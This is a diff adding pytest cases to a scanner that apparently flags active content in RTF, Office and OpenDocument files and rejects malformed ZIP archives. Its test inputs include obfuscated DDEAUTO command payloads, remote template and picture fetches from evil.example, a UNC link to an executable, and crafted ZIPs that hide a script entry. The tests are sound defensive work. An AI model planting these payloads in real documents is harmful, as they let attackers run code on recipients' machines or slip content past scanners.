@@ -134,6 +134,9 @@ def field(*runs: str) -> bytes:
         (field(' HYPERLINK "search-ms:query=a" '), False),
         (field(' HYPERLINK "\\\\\\\\evil\\\\x.exe" '), False),
         (field(" HYPERLINK ms-word:ofe|u|https://evil.example "), False),
+        (nested(' INCLUDEPICTURE "', " QUOTE 104 116 ", '" '), False),
+        (nested(' HYPERLINK "', " QUOTE 104 ", '" '), False),
+        (nested(' HYPERLINK "https://a.example/', " MERGEFIELD a ", '" '), True),
         (docx({"word/a.xml": "<w:t>DDE là gì?</w:t>".encode()}), True),
     ],
 )
@@ -258,6 +261,157 @@ def test_what_stands_within_an_entry_behind_its_end_is_refused(way: int, *, hone
         struct.pack_into("<I", longer, 18, size + len(hidden))
     struct.pack_into("<I", longer, listed + len(hidden) + 20, size + len(hidden))
     assert verdict(bytes(longer), "a.zip") == "broken_archive"
+
+
+def head_of(name: bytes, data: bytes, flags: int = 0) -> bytes:
+    size = 0 if flags else len(data)
+    told = (0 if flags else zlib.crc32(data), size, size, len(name), 0)
+    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, flags, 0, 0, 0x5821, *told) + name + data
+
+
+def listed(name: bytes, data: bytes, at: int, flags: int = 0) -> bytes:
+    told = (zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, at)
+    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, flags, 0, 0, 0x5821, *told) + name
+
+
+def end_of(size: int, at: int, comment: bytes = b"", entries: int = 1) -> bytes:
+    return struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, size, at, len(comment)) + comment
+
+
+def wide_end_of(size: int, at: int, place: int) -> bytes:
+    record = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, size, at)
+    return record + struct.pack("<4sIQI", b"PK\6\7", 0, place, 1)
+
+
+SCRIPT, NOTE = (b"thu.js", b"new ActiveXObject()"), (b"giay.txt", b"xin")
+ALL_WIDE = b"PK\5\6" + bytes(4) + b"\xff" * 12 + bytes(2)
+
+
+def two_wide_lists() -> bytes:
+    """The place of the record of large files leads into an entry; Python takes the record that stands before it."""
+    begin = 30 + len(b"giay.txt")
+    hidden = head_of(*SCRIPT)
+    told = listed(*SCRIPT, begin)
+    at = begin + len(hidden) + len(told)
+    inner = hidden + told + wide_end_of(len(told), begin + len(hidden), at)[:56]
+    outer, list_ = head_of(b"giay.txt", inner), listed(b"giay.txt", inner, 0)
+    return outer + list_ + wide_end_of(len(list_), len(outer), at) + ALL_WIDE
+
+
+def two_ends() -> bytes:
+    """The comment of the first end reaches to the end of the file, and holds another list and end."""
+    note, script = head_of(*NOTE), head_of(*SCRIPT)
+    begun = note + script
+    first, second = listed(*SCRIPT, len(note)), listed(*NOTE, 0)
+    place = len(begun) + len(first) + 22
+    return begun + first + end_of(len(first), len(begun), second + end_of(len(second), place))
+
+
+def wide() -> bytes:
+    outer, list_ = head_of(*NOTE), listed(*NOTE, 0)
+    return outer + list_ + wide_end_of(len(list_), len(outer), len(outer) + len(list_)) + ALL_WIDE
+
+
+def streamed_whole(inner: bytes) -> bytes:
+    """A stored entry whose size stands behind it."""
+    behind = b"PK\7\x08" + struct.pack("<III", zlib.crc32(inner), len(inner), len(inner))
+    outer, list_ = head_of(b"giay.txt", inner, 8) + behind, listed(b"giay.txt", inner, 0, 8)
+    return outer + list_ + end_of(len(list_), len(outer))
+
+
+def plain(comment: bytes = b"", behind: bytes = b"", entries: int = 1, name: bytes = b"giay.txt") -> bytes:
+    outer, list_ = head_of(name, b"xin"), listed(name, b"xin", 0)
+    return outer + list_ + end_of(len(list_), len(outer), comment, entries) + behind
+
+
+def endless() -> bytes:
+    """An entry that says to be longer than any file."""
+    data = bytearray(archive({"a.txt": b"a" * 100}))
+    extra = struct.pack("<HHQQ", 1, 16, 100, 10**15)
+    at = data.find(LIST_HEAD)
+    named = data[at + 46 : at + 51]
+    head = bytes(data[at : at + 46])
+    head = head[:20] + b"\xff" * 8 + head[28:30] + struct.pack("<H", len(extra)) + head[32:]
+    list_ = head + bytes(named) + extra
+    return bytes(data[:at]) + list_ + end_of(len(list_), at)
+
+
+RICH = [
+    b"{\\*\\fldinst {\\rtlch\\fcs1 \\af0}{\\ltrch DDEAUTO cmd \"/k calc\"}}",
+    b'{\\*\\fldinst {\\b IN}{\\b CLUDEPICTURE "http://evil.example/a.png"}}',
+    b"{\\*\\fldinst DD\\b E\\b0 AUTO cmd}", b"{\\*\\fldinst \\u68?DE\\u65?UTO cmd}", b"{\\*\\fldinst DD\r\nEAUTO cmd}",
+    b"{\\*\\template \\u104?ttps\\u58?\\u47?\\u47?evil.example/a}", b"{\\*\\template {http}{:}{/}{/evil.example/a}}",
+    b"{\\*\\template ht\r\ntp\r\n:/\r\n/evil.example/a}", b"{\\*\\objdata0 0105}", b"{\\object\\objupdate}",
+    b'{\\*\\fldinst HYPERLINK "\\\\\\\\evil\\\\x.exe"}', b'{\\*\\fldinst INCLUDETEXT "{\\*\\fldinst QUOTE 104}"}',
+    b"\\bin9 {\\*\\xx}}}{\\*\\fldinst DDE cmd}", b"{\\*\\fldinst DDEAUTO cmd",
+]
+
+
+@pytest.mark.parametrize("written", RICH)
+@pytest.mark.parametrize("begun", [b"{\\rtf1 ", b"{\\rt "])
+def test_what_a_rich_text_starts_is_found_in_pieces_and_numbers(written: bytes, begun: bytes) -> None:
+    assert verdict(archive({"a.rtf": begun + written + b"}"}), "a.zip") == "active_content"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        b"{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}", b"DDEAUTO l\\'e0 g\\'ec?",
+        b'{\\field{\\*\\fldinst HYPERLINK "https://vanban.chinhphu.vn"}}', b"{\\*\\template C:\\\\a.dotm}",
+        b"{\\pict\\bin5 DDE}{}", b"{\\field{\\*\\fldinst TOC \\\\o \"1-3\" {\\*\\fldinst PAGEREF a}}}",
+    ],
+)
+def test_a_rich_text_that_only_says_so_is_taken(written: bytes) -> None:
+    assert verdict(archive({"a.rtf": b"{\\rtf1 " + written + b"}"}), "a.zip") == "zip"
+
+
+OFFICE_XML: dict[str, tuple[str, bytes]] = {
+    "text of another machine": ("xl/connections.xml", b"<connections><x:textPr xmlns:x='x' sourceFile='a'/></connections>"),
+    "connection by a file": ("xl/connections.xml", b"<a><connection odcFile='http://evil.example'/></a>"),
+    "painted": ("xl/drawings/a.xml", b"<a><v:imagedata xmlns:v='v' src='//evil.example/a.png'/></a>"),
+    "filled": ("xl/drawings/a.vml", b"<xml><v:fill src=\"https://evil.example/a.png\"><br></xml>"),
+}
+
+
+@pytest.mark.parametrize("way", OFFICE_XML)
+def test_what_a_workbook_brings_in_is_refused(way: str) -> None:
+    part, content = OFFICE_XML[way]
+    assert verdict(xlsx({part: content}), "a.xlsx") == "active_content"
+
+
+OPEN = {
+    "formula": b"<a xmlns:t='t'><t:cell t:formula=\"of:=DDE('soffice';'a';'b')\"/></a>",
+    "fetching formula": b"<a xmlns:t='t'><t:cell t:formula='of:=WEBSERVICE(A1)'/></a>",
+    "source": b"<a xmlns:o='o'><o:dde-source o:automatic-update='true'/></a>",
+    "picture": b"<a xmlns:d='d' xmlns:x='x'><d:image x:href='//evil/a.png'/></a>",
+    "listener": b"<a xmlns:s='s' xmlns:x='x'><s:event-listener x:href='vnd.sun.star.script:a'/></a>",
+    "link": b"<a xmlns:t='t' xmlns:x='x'><t:a x:href='search-ms:a'/></a>",
+}
+
+
+@pytest.mark.parametrize("way", OPEN)
+def test_what_an_open_document_starts_or_fetches_is_refused(way: str) -> None:
+    harmless = b"<a xmlns:d='d' xmlns:x='x'><d:image x:href='Pictures/a.png'/><d:a x:href='https://a.example'/></a>"
+    for content, code in ((OPEN[way], "active_content"), (harmless, "zip")):
+        assert verdict(archive({"a.ods": archive({"mimetype": b"x", "content.xml": content})}), "a.zip") == code
+        assert verdict(archive({"a.fods": content}), "a.zip") == code
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (plain(), "zip"), (wide(), "zip"), (plain(comment=b"xin"), "zip"), (plain(behind=b"\0" * 30), "zip"),
+        (streamed_whole(b"xin"), "zip"), (two_wide_lists(), "broken_archive"), (two_ends(), "broken_archive"),
+        (streamed_whole(b"xin" + head_of(*SCRIPT)), "broken_archive"), (plain(entries=2), "broken_archive"),
+        (plain(behind=head_of(*SCRIPT)), "broken_archive"), (plain(comment=listed(*SCRIPT, 0)), "broken_archive"),
+        (plain(name=b"thu.exe/"), "broken_archive"), (endless(), "broken_archive"),
+    ],
+    ids=["plain", "large", "comment", "zeros behind", "streamed", "two wide lists", "two ends",
+         "head in a streamed one", "one entry too few", "head behind the end", "list in the comment",
+         "folder with content", "endless"],
+)  # fmt: skip
+def test_an_archive_has_one_list_and_one_end(data: bytes, code: str) -> None:
+    assert verdict(data, "a.zip") == code
 
 
 def moved(data: bytes, by: int, list_by: int | None = None) -> bytes:
